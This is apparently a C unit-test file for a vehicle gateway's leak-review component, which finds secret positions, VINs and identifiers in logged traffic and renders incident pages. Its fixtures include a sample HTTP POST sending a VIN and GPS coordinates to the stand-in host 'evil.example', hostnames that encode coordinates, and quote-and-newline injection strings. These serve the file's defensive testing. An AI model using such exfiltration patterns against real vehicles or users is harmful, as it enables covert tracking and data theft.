/* SPDX-License-Identifier: Apache-2.0 */
#include "gateway/review/elsewhere.h"

#include "gateway/review/page.h"
#include "tests/gateway/review_kit.h"

#define EVENTS_OF_SEGMENTS 1200 /* fill more than one */
#define BATCH 100

static struct vehicle vehicle;
static struct content told;
static struct elsewhere elsewhere;
static struct trouble why;

static struct event name_event(const char *name, enum event_action action,
                               unsigned minute)
{
    struct event event = kit_flow("", 1000 + minute, minute);
    event.subject = EVENT_NAME;
    event.action = (uint8_t)action;
    event.reason = action == EVENT_PASSED ? REASON_ALLOWED : REASON_NAME_NOT_ALLOWED;
    memset(&event.name, 0, sizeof event.name);
    event.name.type = 1;
    (void)snprintf(event.name.name, sizeof event.name.name, "%s", name);
    return event;
}

static void read_vehicle(const struct event *events, size_t count)
{
    kit_empty();
    struct store *store = kit_open();
    for (size_t i = 0; i < count; i += BATCH) {
        kit_put(store, events + i, count - i < BATCH ? count - i : BATCH);
    }
    EXPECT(vehicle_open(&vehicle, "van-1", kit_dir, &why));
    while (vehicle_read(&vehicle) == VEHICLE_READ) {
    }
    store_close(store);
}

static bool find(const struct event *events, size_t count, uint32_t incident)
{
    read_vehicle(events, count);
    EXPECT_EQ(vehicle.merge.count, count);
    bool found = elsewhere_find(&elsewhere, &vehicle, incident, &told);
    vehicle_close(&vehicle);
    return found;
}

/* Names that were summed up: of what each was called the ledger knows nothing. */
static struct event crowd_event(enum event_action action, uint64_t cause, unsigned minute,
                                uint64_t count)
{
    struct event event = name_event("", action, minute);
    event.name.type = 0;
    event.cause = cause;
    event.count = count;
    return event;
}

static void test_what_was_told_is_found_where_it_passed(void)
{
    struct event events[] = {
        name_event("lat48.1371.lon11.5761.telemetry.example", EVENT_PASSED, 0),
        name_event("lat48.1371.lon11.5761.telemetry.example", EVENT_PASSED, 3000),
        name_event("lat50.1371.lon11.5761.telemetry.example", EVENT_PASSED, 3001),
        name_event("id4210000003.telemetry.example", EVENT_PASSED, 3002),
        name_event("lat48.1371.lon11.5761.p5.example", EVENT_DROPPED, 3003),
        kit_flow("stranger.example", 6, 3100),
        kit_flow("lat48.139.lon11.570.example", 7, 4000)};
    events[6].action = EVENT_WOULD_DROP;
    content_init(&told);
    content_add_position(&told, 48.13988, 11.57010);
    content_add_identifier(&told, CONTENT_DEVICE, "4210000003", 10);
    EXPECT(find(events, 7, 5));
    EXPECT_EQ(elsewhere.line_count, 2);
    EXPECT_TEXT(elsewhere.lines[0], "secret position 48.13988 11.57010 within 2km\n");
    EXPECT_TEXT(elsewhere.lines[1], "secret name \"4210000003\"\n");
    EXPECT_EQ(elsewhere.passed, 3);
    EXPECT_EQ(elsewhere.denied, 1);
    EXPECT_EQ(elsewhere.shown_count, 3);
    EXPECT_EQ(elsewhere.shown[0].incident, 1);
    EXPECT_EQ(elsewhere.shown[0].line, 0);
    EXPECT_EQ(elsewhere.shown[1].incident, 3);
    EXPECT_EQ(elsewhere.shown[1].line, 1);
    EXPECT_EQ(elsewhere.shown[2].incident, 6);
}

static void test_a_name_with_a_blank_in_it_is_searched_as_it_was_said(void)
{
    struct event events[] = {kit_flow("stranger.example", 6, 0),
                             name_event("x.m-ab 1234.example", EVENT_PASSED, 1)};
    content_init(&told);
    content_add_identifier(&told, CONTENT_PLATE, "M-AB 1234", 9);
    EXPECT(find(events, 2, 0));
    EXPECT_EQ(elsewhere.passed, 1);
}

static void test_more_than_are_shown_are_counted(void)
{
    static struct event events[ELSEWHERE_SHOWN_MAX + 6];
    size_t count = sizeof events / sizeof *events;
    for (size_t i = 0; i < count; i++) {
        events[i] =
            name_event("lat48.1371.lon11.5761.example", EVENT_PASSED, (unsigned)i * 30);
    }
    content_init(&told);
    content_add_position(&told, 48.13988, 11.57010);
    EXPECT(find(events, count, 0));
    EXPECT_EQ(elsewhere.passed, count - 1);
    EXPECT_EQ(elsewhere.shown_count, ELSEWHERE_SHOWN_MAX);
}

static void test_names_that_were_only_counted_are_told(void)
{
    struct event events[] = {
        kit_flow("stranger.example", 1, 0),
        crowd_event(EVENT_PASSED, 2, 10, 30),
        crowd_event(EVENT_WOULD_DROP, 3, 11, 4),
        crowd_event(EVENT_DROPPED, 4, 12, 500),
        crowd_event(EVENT_PASSED, 5, 1435, 600),
        crowd_event(EVENT_PASSED, 6, 2000, 7000),
        kit_flow("", 7, 13),
        kit_flow("", 8, 14),
    };
    events[6].action = EVENT_PASSED;
    events[7].action = EVENT_PASSED;
    events[7].subject = EVENT_SYSTEM;
    events[7].system = (struct event_system){.about = ""};
    content_init(&told);
    content_add_position(&told, 48.13988, 11.57010);
    EXPECT(find(events, 8, 0));
    EXPECT_EQ(elsewhere.crowd, 636);
    EXPECT_EQ(elsewhere.passed + elsewhere.denied, 0);
    for (unsigned i = 1; i < 6; i++) { /* one that goes on beyond the time searched */
        events[i] = crowd_event(EVENT_PASSED, 2, 1405 + i * 15, i);
    }
    read_vehicle(events, 6);
    EXPECT_EQ(vehicle.merge.count, 2);
    EXPECT(elsewhere_find(&elsewhere, &vehicle, 0, &told));
    EXPECT_EQ(elsewhere.crowd, 3);
    vehicle_close(&vehicle);
}

static struct event said_event(void)
{
    static const char said[] =
        "POST /collect?v=2 HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 64\r\n\r\n"
        "{\"vin\":\"WVWZZZ1JZXW000001\",\"lat\":48.13713,\"lon\":11.57544,\"x\":\"<b>\"}";
    struct event event = kit_flow("evil.example", 1, 0);
    event.reason = REASON_DECOY_KEPT;
    event.flow.protocol = TRAFFIC_HTTP;
    event.flow.evidence.part = event.flow.evidence.parts = 1;
    event.flow.evidence.len = sizeof said - 1;
    memcpy(event.flow.evidence.bytes, said, sizeof said - 1);
    return event;
}

/* The card of the first incident; the caller's to free. */
static char *print_card(const struct event *events, size_t count)
{
    char *card = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&card, &len);
    read_vehicle(events, count);
    page_elsewhere(out, &vehicle, 0);
    (void)fclose(out);
    vehicle_close(&vehicle);
    return card;
}

static void test_the_page_says_nothing_of_what_was_only_counted(void)
{
    struct event events[] = {said_event(), crowd_event(EVENT_PASSED, 2, 10, 1234)};
    char *card = print_card(events, 1);
    EXPECT(strstr(card, "no server name that was let through holds it. Said") != NULL);
    free(card);
    card = print_card(events, 2);
    EXPECT(strstr(card, "no server name that was let through holds it") == NULL);
    EXPECT(strstr(card, "<strong>1,234 more names or connections that were let through "
                        "were only counted") != NULL);
    EXPECT(strstr(card, "whether one of them holds it is not known") != NULL);
    free(card);
    struct event nearest[] = {kit_flow("stranger.example", 3, 0), said_event(),
                              crowd_event(EVENT_PASSED, 2, 10, 1234)};
    nearest[1].reason = nearest[0].reason;
    card = print_card(nearest, 3);
    EXPECT(strstr(card, "no server name that was let through holds what") == NULL);
    EXPECT(strstr(card, " holds what that one said. <strong>1,234 more names") != NULL);
    free(card);
}

/* A list whose oldest segment was removed, as retention does. */
static void test_the_page_says_nothing_of_what_was_taken_out(void)
{
    static struct event events[EVENTS_OF_SEGMENTS];
    char path[128];
    for (size_t i = 0; i < EVENTS_OF_SEGMENTS; i++) {
        events[i] = name_event("a.telemetry.example", EVENT_PASSED, (unsigned)i % 60);
    }
    events[EVENTS_OF_SEGMENTS - 1] = said_event();
    read_vehicle(events, EVENTS_OF_SEGMENTS);
    vehicle_close(&vehicle);
    kit_path(path, sizeof path, 1);
    EXPECT_EQ(unlink(path), 0);
    EXPECT(vehicle_open(&vehicle, "van-1", kit_dir, &why));
    while (vehicle_read(&vehicle) == VEHICLE_READ) {
    }
    uint64_t gone = vehicle.rows[0].place.leaf;
    uint32_t incident = vehicle.rows[vehicle.row_count - 1].incident;
    EXPECT(gone > 100 && gone < 1000);
    char *card = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&card, &len);
    page_elsewhere(out, &vehicle, incident);
    (void)fclose(out);
    char told_gone[120];
    (void)snprintf(told_gone, sizeof told_gone,
                   "that the ledger tells of those that were let through holds it. "
                   "<strong>This cannot be complete: %u events",
                   (unsigned)gone);
    EXPECT(strstr(card, told_gone) != NULL);
    free(card);
    vehicle_close(&vehicle);
}

static void test_what_was_taken_out_counts_where_it_may_be_of_that_time(void)
{
    struct event events[] = {kit_flow("", 1, 0), kit_flow("stranger.example", 2, 3000),
                             kit_flow("", 3, 6000), kit_flow("", 4, 9000)};
    static const struct {
        uint64_t before[4]; /* events that are gone before each */
        uint64_t counted;
    } rows[] = {
        {{0, 0, 0, 0}, 0}, {{5, 0, 0, 0}, 0}, {{0, 7, 0, 0}, 7},
        {{0, 0, 1, 0}, 1}, {{0, 0, 0, 9}, 0}, {{5, 7, 1, 9}, 8},
    };
    content_init(&told);
    content_add_position(&told, 48.13988, 11.57010);
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        uint64_t gone = 0;
        read_vehicle(events, 4);
        for (size_t row = 0; row < 4; row++) {
            gone += rows[i].before[row];
            vehicle.rows[row].place.leaf += gone;
        }
        EXPECT(elsewhere_find(&elsewhere, &vehicle, 1, &told));
        EXPECT_EQ(elsewhere.gone, rows[i].counted);
        vehicle.rows[3].place.wall_us = 1; /* by a clock that nothing had set */
        EXPECT(elsewhere_find(&elsewhere, &vehicle, 1, &told));
        EXPECT_EQ(elsewhere.gone, rows[i].counted + rows[i].before[3]);
        vehicle_close(&vehicle);
    }
}

static void test_only_what_a_policy_takes_is_looked_for(void)
{
    struct event event = kit_flow("stranger.example", 6, 0);
    content_init(&told);
    EXPECT(!find(&event, 1, 0));
    content_add_identifier(&told, CONTENT_CLIENT, "a-client", 8);
    content_add_identifier(&told, CONTENT_PLATE, "M\"}\nuplink", 10);
    content_add_identifier(&told, CONTENT_DEVICE, "x\" }", 4);
    content_add_identifier(&told, CONTENT_DEVICE, "1234", 4); /* in everything */
    content_add_identifier(&told, CONTENT_IMEI, "490154203237519", 15); /* check digit */
    EXPECT(!find(&event, 1, 0));
    content_add_identifier(&told, CONTENT_IMEI, "490154203237518", 15);
    content_add_identifier(&told, CONTENT_PLATE, "M-AB 1234", 9);
    EXPECT(find(&event, 1, 0));
    EXPECT_EQ(elsewhere.line_count, 2);
    EXPECT_TEXT(elsewhere.lines[0], "secret imei \"490154203237518\"\n");
    EXPECT_TEXT(elsewhere.lines[1], "secret plate \"M-AB 1234\"\n");
    EXPECT_EQ(elsewhere.passed + elsewhere.denied, 0);
}

static void test_places_near_each_other_are_one_and_four_are_the_most(void)
{
    struct event event = kit_flow("stranger.example", 6, 0);
    content_init(&told);
    for (int i = 0; i < 30; i++) {
        int degrees = 10 + i / 5;
        content_add_position(&told, degrees + 0.001 * (i % 5), -20);
    }
    EXPECT(find(&event, 1, 0));
    EXPECT_EQ(elsewhere.line_count, 4);
    EXPECT_TEXT(elsewhere.lines[3], "secret position 13.00000 -20.00000 within 2km\n");
}

static void test_the_nearest_of_the_reason_that_has_bytes_is_found(void)
{
    static const struct incident {
        uint64_t minute;
        bool has_bytes;
        uint16_t reason;
    } table[] = {{0, true, REASON_TUNNEL_ATTEMPT},
                 {100, false, REASON_TUNNEL_ATTEMPT},
                 {101, true, REASON_VIDEO_STREAM},
                 {102, false, REASON_TUNNEL_ATTEMPT},
                 {120, true, REASON_TUNNEL_ATTEMPT}};
    struct vehicle_incident incidents[5];
    struct log_merge_line lines[5];
    memset(incidents, 0, sizeof incidents);
    memset(lines, 0, sizeof lines);
    for (size_t i = 0; i < 5; i++) {
        incidents[i].has_bytes = table[i].has_bytes;
        incidents[i].reason = table[i].reason;
        lines[i].first_wall_us = table[i].minute * KIT_MINUTE_US;
    }
    struct vehicle made = {.incidents = incidents, .merge = {.lines = lines, .count = 5}};
    EXPECT_EQ(elsewhere_nearest_with_bytes(&made, 1), 4);
    EXPECT_EQ(elsewhere_nearest_with_bytes(&made, 4), 0);
    EXPECT_EQ(elsewhere_nearest_with_bytes(&made, 2), VEHICLE_NONE);
    incidents[4].has_bytes = false;
    EXPECT_EQ(elsewhere_nearest_with_bytes(&made, 3), 0);
}

static struct event kept_event(void)
{
    static const char said[] =
        "POST /collect HTTP/1.1\r\nHost: a.example\r\nContent-Length: 27\r\n\r\n"
        "{\"vin\":\"WVWZZZ1JZXW000001\"}";
    struct event event = kit_flow("", 77, 1);
    struct event_evidence *evidence = &event.flow.evidence;
    event.reason = REASON_DECOY_KEPT;
    event.action = EVENT_DROPPED;
    event.flow.protocol = TRAFFIC_HTTP;
    evidence->len = sizeof said - 1;
    evidence->part = evidence->parts = 1;
    memcpy(evidence->bytes, said, sizeof said - 1);
    return event;
}

static void test_the_lead_of_the_page_says_that_names_passed(void)
{
    char text[512] = "";
    struct event events[] = {kept_event(),
                             name_event("wvwzzz1jzxw000001.example", EVENT_PASSED, 5)};
    FILE *out = fmemopen(text, sizeof text, "w");
    kit_empty();
    struct store *store = kit_open();
    kit_put(store, events, 2);
    EXPECT(vehicle_open(&vehicle, "van-1", kit_dir, &why));
    while (vehicle_read(&vehicle) == VEHICLE_READ) {
    }
    page_elsewhere_hint(out, &vehicle, 1); /* a name told nothing */
    page_elsewhere_hint(out, &vehicle, 0);
    EXPECT_EQ(fclose(out), 0);
    EXPECT_TEXT(text, " But see <a href=\"#sent\">below</a>: <strong>1 "
                      "incident</strong> that was let through holds what it said.");
    vehicle_close(&vehicle);
    store_close(store);
}

int main(void)
{
    kit_start();
    RUN(test_what_was_told_is_found_where_it_passed);
    RUN(test_a_name_with_a_blank_in_it_is_searched_as_it_was_said);
    RUN(test_more_than_are_shown_are_counted);
    RUN(test_names_that_were_only_counted_are_told);
    RUN(test_the_page_says_nothing_of_what_was_only_counted);
    RUN(test_the_page_says_nothing_of_what_was_taken_out);
    RUN(test_what_was_taken_out_counts_where_it_may_be_of_that_time);
    RUN(test_only_what_a_policy_takes_is_looked_for);
    RUN(test_places_near_each_other_are_one_and_four_are_the_most);
    RUN(test_the_nearest_of_the_reason_that_has_bytes_is_found);
    RUN(test_the_lead_of_the_page_says_that_names_passed);
    kit_stop();
    return tap_done();
}
